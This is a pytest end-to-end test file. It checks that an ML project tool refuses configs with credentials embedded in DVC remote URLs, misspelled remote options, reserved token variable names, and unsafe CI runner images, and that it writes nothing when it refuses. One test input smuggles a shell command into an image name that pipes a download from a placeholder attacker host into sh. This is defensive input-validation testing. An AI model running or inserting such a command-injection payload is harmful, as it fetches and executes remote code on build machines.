"""Credentials hidden in URLs, unknown DVC remote options and unsafe CI names are refused by
`validate` (located) and by `apply` before anything is written, in real git + DVC repositories."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.e2e.helpers import git, mlcode, snapshot

pytestmark = pytest.mark.slow

BASE = "name: team\nci: {ci}\nforge:\n  type: {forge}\n{token}remote:\n"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("secrets") / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=root, check=True)
    result = mlcode(root, "init", "--example", "iris")
    assert result.returncode == 0, result.stderr
    spec = root / "ml.yaml"
    spec.write_text(spec.read_text().replace("stack: local ", "stack: team-stack.yaml "))
    return root


def _stack(remote: str, *, ci: str = "none", forge: str = "none", token: str = "") -> str:
    token_line = f"  token_env: {token}\n" if token else ""
    return BASE.format(ci=ci, forge=forge, token=token_line) + remote


CASES = {
    "password in an https url": (
        _stack("  type: https\n  url: https://alice:hunter2@dav.example.com/dvc\n"),
        "team-stack.yaml:7:8: remote.url: the url embeds a password",
    ),
    "token as userinfo": (
        _stack("  type: webdavs\n  url: webdavs://ghp_abcdef@dav.example.com/dvc\n"),
        "team-stack.yaml:7:8: remote.url: the url embeds a user name or token",
    ),
    "signed s3 url": (
        _stack("  type: s3\n  url: s3://bucket/dvc?X-Amz-Signature=abc&X-Amz-Credential=k\n"),
        "team-stack.yaml:7:8: remote.url: the url carries a secret in its query string",
    ),
    "userinfo in endpointurl": (
        _stack(
            "  type: s3\n  url: s3://bucket/dvc\n  options:\n"
            "    endpointurl: https://AKIAKEY:hunter2@minio.example.com\n"
        ),
        "team-stack.yaml:9:18: remote.options.endpointurl: the value of 'endpointurl' embeds",
    ),
    "unknown remote option": (
        _stack("  type: s3\n  url: s3://bucket/dvc\n  options:\n    regoin: eu-west-1\n"),
        "team-stack.yaml:9:5: remote.options.regoin: 'regoin' is not an option of DVC 's3' "
        "remotes; did you mean 'region'?",
    ),
    "runner image with shell syntax": (
        _stack("  type: s3\n  url: s3://bucket/dvc\n", ci="gitlab", forge="gitlab", token="GL_PAT")
        + "runner:\n  image: 'python:3.11-slim; curl evil.example.com | sh'\n",
        "team-stack.yaml:10:10: runner.image: 'python:3.11-slim; curl evil.example.com | sh' is not "
        "a container image reference",
    ),
    "reserved token variable": (
        _stack("  type: s3\n  url: s3://bucket/dvc\n", ci="gitlab", forge="gitlab", token="PATH"),
        "team-stack.yaml:5:14: forge.token_env: 'PATH' is a reserved environment variable",
    ),
    "GITHUB_ credential on github": (
        _stack(
            "  type: s3\n  url: s3://bucket/dvc\n  credentials:\n"
            "    access_key_id: GITHUB_AWS_KEY\n",
            ci="github",
            forge="github",
            token="GITHUB_TOKEN",
        ),
        "remote.credentials.access_key_id: 'GITHUB_AWS_KEY': GitHub secret names cannot start",
    ),
}


def _state(root: Path) -> tuple[dict[str, bytes], str]:
    return snapshot(root), git(root, "ls-files", "-s")


@pytest.mark.parametrize("case", sorted(CASES))
def test_validate_and_apply_refuse_before_writing(project: Path, case: str) -> None:
    text, expected = CASES[case]
    (project / "team-stack.yaml").write_text(text)
    before = _state(project)
    validated = mlcode(project, "validate")
    assert validated.returncode == 1, validated.stdout + validated.stderr
    assert expected in validated.stderr
    applied = mlcode(project, "apply", "--auto-approve")
    assert applied.returncode == 3, applied.stdout + applied.stderr
    assert expected in applied.stderr
    assert "Traceback" not in applied.stderr
    assert _state(project) == before
    assert not (project / ".dvc").exists()
    for secret in ("hunter2", "ghp_abcdef", "AKIAKEY"):
        assert secret not in validated.stderr + applied.stderr
